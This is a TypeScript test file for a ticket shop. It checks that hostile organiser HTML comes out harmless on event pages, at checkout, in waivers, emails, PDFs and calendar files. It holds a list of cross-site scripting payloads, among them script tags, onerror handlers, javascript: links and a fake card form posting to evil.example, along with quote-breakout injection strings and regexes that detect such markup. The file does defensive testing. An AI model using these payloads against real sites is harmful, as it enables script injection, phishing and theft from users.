import { expect, it } from 'vitest'
import type { CatalogueInput } from '../catalogue/format/format.ts'
import { importText } from '../catalogue/import/import.ts'
import { eventJsonLd } from '../catalogue/json-ld.ts'
import { describeOnBoth } from '../testing/database/databases.ts'
import {
  browserWithProvedEmail,
  markPaid,
  newEmail,
  putInBasket,
  reserve,
  saleIdOf,
} from '../testing/fixtures/buyers.ts'
import { SELLER } from '../testing/fixtures/catalogue.ts'
import { withPages } from '../testing/pages.ts'
import { pdfText } from '../testing/pdf-text.ts'
import { useShop } from '../testing/shop.ts'
import { ticketAttachments } from '../tickets/paper/attachments.ts'

/**
 * One example of each thing that an organiser's HTML must not do: run scripts, send requests, navigate away, cover the page or
 * imitate ours.
 */
const NASTY = [
  '<p>Bring water</p>',
  '<script>alert("ran")</script><script src="https://evil.example/x.js"></script>',
  '<img src="https://evil.example/pixel.png" onerror="alert(1)"><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">tap</a><a href="jAva&#10;script:alert(1)">tap</a><a href="data:text/html,<script>alert(1)</script>">tap</a>',
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff" onclick="alert(1)" class="page" id="root">cover</div>',
  '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<iframe src="https://evil.example/"></iframe><object data="x"></object><embed src="x"><base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name="card"><button>Pay</button></form>',
  '<svg onload="alert(1)"><use href="https://evil.example/#x"/></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><video src="https://evil.example/v" autoplay></video>',
  '</script></style></textarea><body onload=alert(1)>',
].join('')

/** None of this may appear in any HTML shown as HTML. */
const HARMFUL =
  /<(script|style|iframe|object|embed|base|form|input|button|svg|math|meta|link|video|img|body)\b|\son\w+\s*=|style\s*=|class\s*=|javascript:|data:text|evil\.example/i

/** For plain text, which is escaped wherever it is shown. */
/** A name may hold no address. */
const AS_NAME = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
const AS_TEXT = '"><script>alert(1)</script><img src=https://evil.example/p onerror=alert(1)>'

const catalogue = (): string => {
  const file: CatalogueInput = {
    format: 'foyer-catalogue-1',
    organisers: [
      {
        slug: 'evil-house',
        ...SELLER,
        name: `Evil House ${AS_TEXT}`,
        about_html: NASTY,
        questions_intro_html: NASTY,
        refund_policy: { text: 'Refunds until noon', title: `Refunds ${AS_TEXT}`, description: NASTY },
      },
    ],
    venues: [{ slug: 'evil-venue', name: `The Hall ${AS_TEXT}`, full_address: '1 Street', town: 'Leeds' }],
    events: [
      {
        slug: 'evil-event',
        organiser: 'evil-house',
        venue: 'evil-venue',
        title: `Gala ${AS_TEXT}`,
        description_html: NASTY,
        dates: [{ starts: '2099-03-01T19:00' }],
        ticket_types: [{ name: `Adult ${AS_TEXT}`, price: 10, capacity: 20, description: AS_TEXT }],
        questions: [
          { osq_id: 'diet', question_html: NASTY, type: 'text', before_or_after: 'after' },
          { osq_id: 'size', question_html: NASTY, type: 'dropdown', options: [AS_TEXT, 'M'], before_or_after: 'after' },
        ],
        after_sale_messages: [NASTY],
        waivers: [{ title: `Terms ${AS_TEXT}`, terms_html: NASTY }],
      },
    ],
  }
  return JSON.stringify(file)
}

/** Returns every field whose name marks it as HTML, with its path. */
function htmlFields(value: unknown, path = ''): [string, string][] {
  if (Array.isArray(value)) return value.flatMap((item, at) => htmlFields(item, `${path}[${at}]`))
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([key, item]) =>
    typeof item === 'string' && (/_html$/.test(key) || key === 'message' || key === 'question' || key === 'description')
      ? [[`${path}.${key}`, item] as [string, string]]
      : htmlFields(item, `${path}.${key}`),
  )
}

describeOnBoth('hostile organiser HTML', (kind) => {
  const shop = useShop(kind)

  it('is harmless in the import, page, checkout, waiver, email, calendar and PDF', async () => {
    const { db, deps } = shop()
    const report = await importText(db, 'evil.json', catalogue(), shop().clock.now())
    expect(report.refused, JSON.stringify(report.refused)).toEqual([])
    const type = await db.selectFrom('ticket_types').select('id').executeTakeFirstOrThrow()

    // The event page and its structured data.
    const pages = await withPages(shop())
    const email = newEmail()
    const browser = pages.browser(await browserWithProvedEmail(shop(), email))
    const event = await pages.data(browser, 'event', '/events/evil-event/')
    const organiser = await pages.data(browser, 'organiser', '/organisers/evil-house/')
    expect(
      JSON.stringify(eventJsonLd(event!, 'https://shop.test').map((block) => ({ ...block, name: '' }))),
    ).not.toMatch(/alert\("ran"\)/)

    // The checkout, including questions, messages and refund policies.
    await putInBasket(browser, type.id, 2)
    await reserve(browser)
    await browser.call('save_guest_to_sale', { email, fullname: 'Ada Lovelace' })
    const saleId = await saleIdOf(shop(), browser)
    await markPaid(shop(), saleId)
    const checkout = await browser.checkout()
    expect(checkout.after_payment_questions).not.toEqual([])
    expect(checkout.after_sale_messages).not.toEqual([])
    expect(checkout.has_waivers).toBe(true)
    const waiver = await pages.data(browser, 'waiver', `/activity-terms-and-conditions/${checkout.sale_reference}/`)

    const fields = [
      ...htmlFields(event, 'event').filter(([path]) => !/dates.*\.description$/.test(path)),
      ...htmlFields(organiser, 'organiser'),
      ...htmlFields(checkout, 'checkout'),
      ...htmlFields(waiver, 'waiver'),
    ]
    const places = fields.filter(([, html]) => html.includes('Bring water')).map(([path]) => path)
    for (const place of ['description_html', 'about_html', 'message', 'question', 'terms_html', 'questions_intro_html'])
      expect(
        places.some((path) => path.endsWith(place)),
        place,
      ).toBe(true)
    for (const [path, html] of fields) expect(html, path).not.toMatch(HARMFUL)

    // The mail, whose texts are all escaped, and its attachments.
    await browser.call('deliver_to_wallet')
    expect(
      (
        await browser.call('set_transfers', {
          transfers: [
            { ticket_id: type.id, name: AS_NAME, email: 'g@example.org', qty: 1, is_gift: '1', message: NASTY },
          ],
        })
      ).status,
    ).toBe(200)
    const mails = await db.selectFrom('mails').selectAll().where('sale_id', '=', saleId).execute()
    expect(mails.map((mail) => mail.kind).sort()).toEqual(['transfer', 'wallet'])
    for (const { body_html, subject } of mails) {
      const tags = new Set([...body_html.matchAll(/<([a-z0-9]+)/gi)].map(([, tag]) => tag!.toLowerCase()))
      for (const tag of ['script', 'img', 'iframe', 'form', 'input', 'svg', 'object', 'embed', 'link', 'base', 'video'])
        expect(tags.has(tag), tag).toBe(false)
      const links = [...body_html.matchAll(/\shref="([^"]*)"/g)].map(([, href]) => href!)
      // Links lead to the shop, or write to a plain address.
      expect(links.filter((href) => !/^(http:\/\/shop\.test\/|mailto:[\w.+-]+@[\w.-]+$)/.test(href))).toEqual([])
      expect(body_html.replace(/&lt;.*?&gt;/g, '')).not.toMatch(/<[^>]*\son\w+\s*=/i)
      expect(subject).not.toMatch(/[\r\n]/)
    }
    const paper = (await ticketAttachments.draw(deps, [{ kind: 'tickets_pdf', sale_id: saleId }], email))[0]
    const raw = paper!.content.toString('latin1')
    // Nothing in the file is active: no link, script, launch, form, embedded or fetched file.
    expect(raw).not.toMatch(/\/(URI|JavaScript|JS|Launch|AcroForm|EmbeddedFile|OpenAction|AA|SubmitForm|GoToR)\b/)
    const words = pdfText(paper!.content)
    expect(words).toContain('Gala')
    expect(words).toContain('Ada Lovelace')
    expect(words).not.toContain('alert("ran")')
    expect(words).not.toContain('display:none')
    const calendar = (await ticketAttachments.draw(deps, [{ kind: 'calendar', sale_id: saleId }], email))[0]
    expect(calendar!.content.toString()).not.toContain('alert("ran")')
  })
})
